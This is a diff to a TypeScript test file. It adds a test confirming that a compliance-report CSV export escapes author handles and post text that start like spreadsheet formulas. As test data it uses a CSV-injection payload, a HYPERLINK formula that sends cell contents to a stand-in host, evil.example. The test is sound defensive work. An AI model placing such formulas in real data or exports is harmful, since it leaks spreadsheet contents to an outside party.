@@ -1,3 +1,4 @@
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import request from 'supertest';
 import type { TrustApp } from '../../api/app';
@@ -183,6 +184,27 @@ describe('compliance reports', () => {
     expect(csv.text.charCodeAt(0)).toBe(0xfeff);
     expect(csv.text.split('\n')[0]).toContain('post_id,platform,platform_id,author,brands,reach');
     expect(csv.text).toMatch(/[\u4e00-\u9fff]/);
+  });
+
+  it('neutralises an author handle and a post text that start like a spreadsheet formula in the CSV', async () => {
+    const post = await t.db('posts').where({ disclosure_status: 'undisclosed' }).orderBy('reach', 'desc').first();
+    const author = await t.db('accounts').where({ id: post.author_id }).first('handle');
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
+    await t.db('accounts').where({ id: post.author_id }).update({ handle: formula });
+    await t.db('posts').where({ id: post.id }).update({ title: null, body: `${formula} 真心推荐` });
+    try {
+      const queued = await request(app).post('/api/compliance-reports').set(compliance).send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() }).expect(202);
+      expect((await finished(queued.body.id)).status).toBe('done');
+      const csv = await request(app).get(`/api/compliance-reports/${queued.body.id}/csv`).set(compliance).expect(200);
+      const [header, ...rows] = parseCsv(csv.text.replace(/^\ufeff/, '')) as string[][];
+      const row = rows.find((r) => r[header!.indexOf('post_id')] === String(post.id))!;
+      expect(row[header!.indexOf('author')]).toBe(`'${formula}`);
+      expect(row[header!.indexOf('text')]).toBe(`'${formula} 真心推荐`);
+      expect(rows.flat().some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
+    } finally {
+      await t.db('accounts').where({ id: post.author_id }).update({ handle: author.handle });
+      await t.db('posts').where({ id: post.id }).update({ title: post.title, body: post.body });
+    }
   });
 
   it('narrows to one brand', async () => {
